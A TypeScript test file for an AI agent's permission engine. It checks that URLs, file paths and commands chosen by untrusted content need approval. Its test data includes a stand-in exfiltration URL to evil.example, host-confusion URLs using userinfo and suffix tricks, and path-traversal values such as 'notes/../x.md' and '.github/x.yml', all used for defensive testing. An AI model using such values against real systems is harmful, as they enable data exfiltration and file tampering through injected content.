import { describe, expect, test } from "vitest";
import { sampleTool } from "../../test/support/sample-tool.ts";
import { createEngine } from "./engine.ts";
import type { UntrustedArguments } from "./untrusted-targets.ts";

const model = { callerType: "conversation_agent" } as const;
const open = { ask: [], allow: ["*"] };
const get = sampleTool(() => "page", { name: "get", effect: "read", targets: { url: "url" } });
const post = sampleTool(() => "sent", { name: "post", effect: "read", targets: { url: "url" } });
const put = sampleTool(() => "put", {
  name: "put",
  effect: "idempotent",
  destructive: true,
  targets: { path: "path" },
});
const show = sampleTool(() => "shown", { name: "show", effect: "read", targets: { path: "path" } });
const shell = sampleTool(() => "done", { name: "shell", effect: "read", targets: { line: "command" } });
const tools = [get, post, put, show, shell];

/** Code of the outcome of a call whose named parameters are untrusted, each as the file has it. */
async function outcome(
  tool: string,
  args: object,
  more: Omit<UntrustedArguments, "parameters"> & { written?: Record<string, string | undefined> | "all" } = {},
): Promise<string> {
  const { written = Object.fromEntries(Object.keys(args).map((name) => [name, undefined])), ...rest } = more;
  const engine = createEngine({
    tools,
    permissions: open,
    trustedHosts: ["api.example.com", "*.trusted.example:8443"],
  });
  const parameters = written === "all" ? ("all" as const) : new Map(Object.entries(written));
  const result = await engine.call(tool, args, { ...model, untrustedArguments: { parameters, ...rest } });
  return result.success ? "ran" : result.error.code;
}

const approvalRequired = "approval_required";

describe("[S3] a URL decided by untrusted content", () => {
  const page = "https://evil.example/x?d=private";

  test("needs approval, unless it appears verbatim in a prompt or an earlier result", async () => {
    expect(await outcome("get", { url: page })).toBe(approvalRequired);
    expect(await outcome("get", { url: page }, { knowsUrl: (url) => url === page })).toBe("ran");
    expect(await outcome("get", { url: page }, { written: "all" })).toBe(approvalRequired);
    expect(await outcome("get", { other: 1 }, { written: "all" })).toBe("ran");
  });

  test("needs approval with data beside it, even if it is known", async () => {
    expect(
      await outcome("post", { url: page, body: null }, { written: { url: undefined }, knowsUrl: () => true }),
    ).toBe("ran");
    for (const beside of [{ body: "x" }, { headers: {} }, { query: { d: 1 } }]) {
      const known = { written: { url: undefined }, knowsUrl: () => true };
      expect(await outcome("post", { url: page, ...beside }, known)).toBe(approvalRequired);
    }
  });

  test("runs if the file states the host, not if it only begins one", async () => {
    const to = (written: string, url: string) => outcome("get", { url }, { written: { url: written } });
    expect(await to("https://example.com/${steps.a.output}", "https://example.com/../x")).toBe("ran");
    expect(await to("https://example.com?q=${steps.a.output}", "https://example.com?q=1")).toBe("ran");
    expect(await to("https://example.com${steps.a.output}", "https://example.com.evil.example/")).toBe(
      approvalRequired,
    );
    expect(await to("https://example.com:${steps.a.output}/", "https://example.com:80@evil.example/")).toBe(
      approvalRequired,
    );
    expect(await to("https://me@${steps.a.output}/", "https://me@evil.example/")).toBe(approvalRequired);
    expect(await to("${steps.a.output}://example.com/", "file://example.com/")).toBe(approvalRequired);
    expect(await to("${steps.a.output}/https://example.com/", page)).toBe(approvalRequired);
  });

  test("runs if its host is trusted: by name, by wildcard, with the port of the entry", async () => {
    expect(await outcome("get", { url: "https://api.example.com/any?d=1" })).toBe("ran");
    expect(await outcome("get", { url: "https://a.trusted.example:8443/" })).toBe("ran");
    for (const url of [
      "https://api.example.com.evil.example/",
      "https://api.example.com@evil.example/",
      "https://a.trusted.example/",
      "https://trusted.example:8443/",
      "ftp://api.example.com/",
      "api.example.com",
    ])
      expect(await outcome("get", { url })).toBe(approvalRequired);
  });

  test("is looked up in the items of a list in the file", async () => {
    const list = sampleTool(() => 1, { name: "list", effect: "read", targets: { urls: "url" } });
    const engine = createEngine({ tools: [list], permissions: open });
    const call = async (written: readonly string[], urls: readonly string[]) => {
      const untrustedArguments = { parameters: new Map([["urls", written]]) };
      return (await engine.call("list", { urls }, { ...model, untrustedArguments })).success;
    };
    const literal = ["https://b.example", "https://a.example/${steps.a.output}"];
    expect(await call(literal, ["https://b.example", "https://a.example/x"])).toBe(true);
    expect(await call(["${steps.a.output}", ...literal], [page, "https://b.example", "https://a.example/x"])).toBe(
      false,
    );
  });

  test("needs approval if one URL of a list or a map does", async () => {
    const list = sampleTool(() => 1, { name: "list", effect: "read", targets: { urls: "url" } });
    const engine = createEngine({ tools: [list], permissions: open });
    const untrustedArguments = { parameters: "all" as const, knowsUrl: (url: string) => url.endsWith("/known") };
    const call = async (urls: unknown) =>
      (await engine.call("list", { urls }, { ...model, untrustedArguments })).success;
    expect(await call(["https://a.example/known"])).toBe(true);
    expect(await call(["https://a.example/known", { url: page }])).toBe(false);
  });
});

describe("[S3] a path decided by untrusted content", () => {
  test("needs approval for a destructive tool only", async () => {
    expect(await outcome("put", { path: "a/b.md" })).toBe(approvalRequired);
    expect(await outcome("show", { path: "a/b.md" })).toBe("ran");
    expect(await outcome("put", { path: "a/b.md" }, { written: {} })).toBe("ran");
  });

  test("runs if the untrusted part is one segment", async () => {
    const to = (written: string, path: string) => outcome("put", { path }, { written: { path: written } });
    expect(await to("notes/${steps.a.output}.md", "notes/Tides.md")).toBe("ran");
    expect(await to("${steps.a.output}", "Tides.md")).toBe("ran");
    expect(await to("notes/${steps.a.output}.md", "notes/../x.md")).toBe(approvalRequired);
    expect(await to("notes/${steps.a.output}", "notes/..")).toBe(approvalRequired);
    expect(await to("notes/${steps.a.output}.md", "notes/a\\..\\b.md")).toBe(approvalRequired);
    expect(await to("notes/${steps.a.output}.md", "notes/a/b.md")).toBe(approvalRequired);
    expect(await to("${steps.a.output}/${steps.b.output}", ".github/x.yml")).toBe(approvalRequired);
    expect(await to("notes/${steps.a.output ?? '}/'}", "notes/a/b.md")).toBe(approvalRequired);
    expect(await to("${steps.a.output}/x.md", "/x.md")).toBe(approvalRequired);
  });
});

test("[S3] a command decided by untrusted content always needs approval, unless the step allows it", async () => {
  expect(await outcome("shell", { line: "ls" })).toBe(approvalRequired);
  expect(await outcome("shell", { line: "ls" }, { allowed: ["command"] })).toBe("ran");
  expect(await outcome("shell", { line: "ls" }, { allowed: ["path", "url"] })).toBe(approvalRequired);
});

test("[S3] an approval of the call covers its nested calls; without one, they are untrusted where the arguments are", async () => {
  const outer = sampleTool(
    async (args, { callTool }) => {
      const { url } = args as { url: string };
      const results = [
        await callTool(get, { url: `${url}/more` }),
        await callTool(get, { url: "https://own.example/" }),
      ];
      return results.map((result) => (result.success ? "ran" : result.error.code));
    },
    { name: "outer", composite: true, effect: "read" },
  );
  const untrustedArguments = { parameters: new Map([["url", undefined]]) };
  const args = { url: "https://evil.example" };
  const engine = createEngine({ tools: [outer, get], permissions: open });
  expect(await engine.call("outer", args, { untrustedArguments })).toMatchObject({ output: [approvalRequired, "ran"] });
  const approving = createEngine({
    tools: [outer, get],
    permissions: { ask: ["outer"], allow: ["*"] },
    approver: { requestApproval: () => Promise.resolve({ kind: "approved" }) },
  });
  expect(await approving.call("outer", args, { untrustedArguments })).toMatchObject({ output: ["ran", "ran"] });
});

test("[S3] the approver reads why, and a rule that says trusted lets the call run", async () => {
  const messages: string[] = [];
  const approver = {
    requestApproval: ({ message }: { message: string }) => {
      messages.push(message);
      return Promise.resolve({ kind: "approved" as const });
    },
  };
  const untrustedArguments = { parameters: "all" as const };
  const approving = createEngine({ tools, permissions: open, approver });
  await approving.call("get", { url: "https://evil.example/" }, { untrustedArguments });
  expect(messages).toEqual([expect.stringContaining("Untrusted content decides its url.")]);
  const trusting = createEngine({ tools, permissions: { allow: ["get trusted"] } });
  const call = trusting.call("get", { url: "https://evil.example/" }, { untrustedArguments });
  expect((await call).success).toBe(true);
});

test("[S3] an entry of trustedHosts that cannot be used is reported under its own name", () => {
  expect(() => createEngine({ trustedHosts: ["https://api.example.com"] })).toThrow(
    'trustedHosts: "https://api.example.com" cannot be used; leave out the scheme',
  );
});
